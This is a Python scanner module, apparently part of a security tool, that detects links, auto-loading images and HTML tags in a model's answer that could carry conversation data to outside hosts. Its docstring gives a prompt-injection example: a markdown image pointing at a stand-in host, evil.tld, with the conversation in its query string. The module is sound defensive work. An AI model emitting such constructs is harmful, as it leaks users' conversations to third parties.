"""Exfiltration guard: links and auto-loading images in an answer that could carry data to a third party.

A prompt injection can make a model write ``![](https://evil.tld/log?q=<the conversation>)``; the chat UI loads the
image with no click, and the data is gone. Each finding spans the whole construct, so ``transform: remove`` drops the
image or link entirely.

``exfiltration.markdown_image`` (0.95)
    An auto-loading resource to a host that is not allowed: markdown ``![alt](url)`` and ``![alt][ref]`` (both the
    use and the ``[ref]: url`` definition), HTML ``<img src>`` and other tags that fetch on render (``<iframe>``,
    ``<video poster>``, ``<source srcset>``, ``style="background:url(…)"`` …). ``data:``/``javascript:`` always.
``exfiltration.link`` (0.6; 0.9 for ``javascript:``/``vbscript:``/``data:``)
    A markdown link, reference link or definition, ``<a href>``/``<form action>``, or a bare URL to a host that
    is not allowed. Relative URLs stay on the chat UI's origin and are left alone.
``exfiltration.query_data`` (0.9)
    Any of the above — allowed host or not — whose query or path carries a payload: a value over 64 characters, a
    base64/hex run that decodes to text, escaped letters/digits, or an e-mail address, card number or secret shape.

With ``final=False`` (a streaming prefix) an unfinished ``![…](https://host/…`` or ``<img src="https://host/…`` at
the end of the text is judged as soon as its host is complete, and a bare URL still being written is not.
"""

from __future__ import annotations

import bisect
import html
import re
from collections.abc import Iterable
from dataclasses import dataclass

from wardgate.scanners.base import Finding
from wardgate.scanners.output.context import AnswerContext
from wardgate.scanners.output.urls import analyze

IMAGE = "exfiltration.markdown_image"
LINK = "exfiltration.link"
QUERY_DATA = "exfiltration.query_data"

_TAIL_WINDOW = 16_384
_LABEL = r"(?:[^\[\]\\]|\\.|\[[^\[\]\\]{0,200}\]){0,1000}"
_DEST = r"(<[^<>\n]{0,4096}>|[^\s()<>]{0,4096}(?:\([^\s()]{0,512}\)[^\s()<>]{0,4096})?)"
_TITLE = r"""(?:\s{1,8}(?:"[^"\n]{0,1024}"|'[^'\n]{0,1024}'|\([^()\n]{0,1024}\)))?"""
_MD_IMAGE = re.compile(r"(?<!\\)!\[" + _LABEL + r"\]\(\s{0,8}" + _DEST + _TITLE + r"\s{0,8}\)")
_MD_LINK = re.compile(r"(?<![!\\])\[" + _LABEL + r"\]\(\s{0,8}" + _DEST + _TITLE + r"\s{0,8}\)")
_MD_TAIL = re.compile(r"(?<!\\)(!?)\[" + _LABEL + r"\]\(\s{0,8}<?([^\s()<>]{1,4096})\Z")
_REF_DEF = re.compile(
    r"^ {0,3}\[([^\[\]\n]{1,999})\]:[ \t]{0,64}\n?[ \t]{0,64}(<[^<>\n]{0,4096}>|[^\s<>]{1,4096})[^\n]{0,1024}", re.M
)
_REF_USE = re.compile(r"(!?)\[([^\[\]\n]{1,999})\](?:\[([^\[\]\n]{0,999})\]|(?![(:\[]))")
_SPACES = re.compile(r"\s+")
_MD_ESCAPE = re.compile(r"\\([!-/:-@\[-`{-~])")

_TAG = re.compile(r"""<([A-Za-z][A-Za-z0-9:-]{0,31})(?=[\s/>])((?:[^<>"']|"[^"<]{0,4096}"|'[^'<]{0,4096}'){0,8192})>""")
_TAG_TAIL = re.compile(r"<([A-Za-z][A-Za-z0-9:-]{0,31})(?=[\s/])([^<>]{0,8192})\Z")
_ATTR = re.compile(r"""([A-Za-z_:][-A-Za-z0-9_:.]{0,63})\s{0,16}=\s{0,16}("[^"]*"|'[^']*'|[^\s"'=<>`]+)""")
_ATTR_TAIL = re.compile(r"""([A-Za-z_:][-A-Za-z0-9_:.]{0,63})\s{0,16}=\s{0,16}["']?([^\s"'<>`]+)""")
_CSS_URL = re.compile(r"""url\(\s{0,8}['"]?([^'")\s]{1,4096})""", re.IGNORECASE)
_CLOSE_A = re.compile(r"</a\s{0,16}>", re.IGNORECASE)
_BARE = re.compile(r"(?<![\w@.+/-])(?:[A-Za-z][A-Za-z0-9+.-]{0,31}://|www\.)[^\s<>\"'`]{1,8192}")

_URL_ATTRS = frozenset(
    {"src", "href", "poster", "data", "background", "lowsrc", "dynsrc", "xlink:href", "action", "formaction", "ping"}
)
_CLICK_TAGS = frozenset({"a", "area", "form", "button", "input"})
_CLICK_ATTRS = frozenset({"href", "action", "formaction", "ping"})
_OPENER = {")": "(", "]": "["}
_SCRIPT_SCHEMES = ("javascript:", "vbscript:", "data:")


@dataclass(frozen=True, slots=True)
class _Construct:
    start: int
    end: int
    url: str
    image: bool


def exfiltration_findings(text: str, actx: AnswerContext, *, final: bool = True) -> list[Finding]:
    constructs = _markdown_inline(text) + _markdown_references(text) + _html(text)
    if not final:
        constructs += _unfinished_tail(text)
    constructs += _bare_urls(text, constructs, final=final)
    findings: list[Finding] = []
    for construct in constructs:
        findings += _judge(construct, actx.allowed_domains)
    return findings


def _judge(construct: _Construct, allowed: tuple[str, ...]) -> list[Finding]:
    verdict = analyze(construct.url, allowed)
    if verdict.relative:
        return []
    kind = IMAGE if construct.image else LINK
    findings: list[Finding] = []
    if verdict.dangerous:
        findings.append(Finding(kind, construct.start, construct.end, 0.95 if construct.image else 0.9))
    elif not verdict.allowed:
        findings.append(Finding(kind, construct.start, construct.end, 0.95 if construct.image else 0.6))
    if verdict.carries_data:
        findings.append(Finding(QUERY_DATA, construct.start, construct.end, 0.9))
    return findings


# --- markdown -----------------------------------------------------------------------------------------------------


def _markdown_inline(text: str) -> list[_Construct]:
    if "](" not in text:
        return []
    found = [_Construct(m.start(), m.end(), _md_url(m.group(1)), True) for m in _MD_IMAGE.finditer(text)]
    found += [_Construct(m.start(), m.end(), _md_url(m.group(1)), False) for m in _MD_LINK.finditer(text)]
    return found


def _md_url(raw: str) -> str:
    """A markdown link destination as the renderer reads it: ``<…>`` dropped, ``\\@`` escapes and entities decoded."""
    if raw.startswith("<") and raw.endswith(">"):
        raw = raw[1:-1]
    return html.unescape(_MD_ESCAPE.sub(r"\1", raw))


def _label(raw: str) -> str:
    return _SPACES.sub(" ", raw.strip()).casefold()


def _markdown_references(text: str) -> list[_Construct]:
    if "]:" not in text:
        return []
    definitions: dict[str, list[tuple[int, int, str]]] = {}
    for match in _REF_DEF.finditer(text):
        entry = (match.start(), match.end(), _md_url(match.group(2)))
        definitions.setdefault(_label(match.group(1)), []).append(entry)
    found: list[_Construct] = []
    imaged: set[str] = set()
    for match in _REF_USE.finditer(text):
        label = _label(match.group(3) or match.group(2))
        image = match.group(1) == "!"
        for _, _, url in definitions.get(label, ()):
            found.append(_Construct(match.start(), match.end(), url, image))
        if image and label in definitions:
            imaged.add(label)
    for label, entries in definitions.items():
        found += [_Construct(start, end, url, label in imaged) for start, end, url in entries]
    return found


# --- HTML ---------------------------------------------------------------------------------------------------------


def _html(text: str) -> list[_Construct]:
    if "<" not in text:
        return []
    found: list[_Construct] = []
    for match in _TAG.finditer(text):
        tag = match.group(1).lower()
        end = match.end()
        if tag in ("a", "area"):
            close = _CLOSE_A.search(text, end, end + 8192)
            end = close.end() if close else end
        for url, click in _tag_urls(tag, _ATTR.finditer(match.group(2))):
            found.append(_Construct(match.start(), end, url, not click))
    return found


def _tag_urls(tag: str, attributes: Iterable[re.Match[str]]) -> list[tuple[str, bool]]:
    """``(url, is_click)`` for every URL-bearing attribute of one tag."""
    urls: list[tuple[str, bool]] = []
    for attribute in attributes:
        name = attribute.group(1).lower()
        value = html.unescape(attribute.group(2).strip("\"'"))
        click = tag in _CLICK_TAGS and name in _CLICK_ATTRS
        if name in _URL_ATTRS:
            urls.append((value, click))
        elif name in ("srcset", "imagesrcset"):
            urls += [(item.split()[0], False) for item in value.split(",") if item.split()]
        elif name == "style":
            urls += [(css.group(1), False) for css in _CSS_URL.finditer(value)]
    return urls


# --- bare URLs and unfinished constructs --------------------------------------------------------------------------


def _bare_urls(text: str, constructs: list[_Construct], *, final: bool) -> list[_Construct]:
    if "://" not in text and "www." not in text:
        return []
    covered = _union((c.start, c.end) for c in constructs)
    starts = [start for start, _ in covered]
    found: list[_Construct] = []
    for match in _BARE.finditer(text):
        slot = bisect.bisect_right(starts, match.start()) - 1
        if slot >= 0 and covered[slot][1] > match.start():
            continue
        url = _trim(match.group())
        end = match.start() + len(url)
        if not final and end == len(text) and not _host_complete(url):
            continue
        found.append(_Construct(match.start(), end, url if "://" in url else "http://" + url, False))
    return found


def _trim(url: str) -> str:
    """Drop trailing punctuation that ends the sentence rather than the URL (as GitHub's autolinker does)."""
    while url:
        last = url[-1]
        if last in ".,;:!?*_~'\"" or (last in _OPENER and url.count(_OPENER[last]) < url.count(last)):
            url = url[:-1]
            continue
        return url
    return url


def _host_complete(url: str) -> bool:
    """Whether a URL still being streamed can be judged: its host is finished, or its scheme alone decides."""
    if url.strip().lower().startswith(_SCRIPT_SCHEMES):
        return True
    _, sep, after = url.partition("://")
    return bool(sep) and any(mark in after for mark in "/?#")


def _unfinished_tail(text: str) -> list[_Construct]:
    window = max(0, len(text) - _TAIL_WINDOW)
    found: list[_Construct] = []
    markdown = _MD_TAIL.search(text, window)
    if markdown and _host_complete(markdown.group(2)):
        found.append(_Construct(markdown.start(), len(text), _md_url(markdown.group(2)), markdown.group(1) == "!"))
    tag = _TAG_TAIL.search(text, window)
    if tag:
        for url, click in _tag_urls(tag.group(1).lower(), _ATTR_TAIL.finditer(tag.group(2))):
            if _host_complete(url):
                found.append(_Construct(tag.start(), len(text), url, not click))
    return found


def _union(spans: Iterable[tuple[int, int]]) -> list[tuple[int, int]]:
    merged: list[tuple[int, int]] = []
    for start, end in sorted(spans):
        if merged and start <= merged[-1][1]:
            merged[-1] = (merged[-1][0], max(merged[-1][1], end))
        else:
            merged.append((start, end))
    return merged
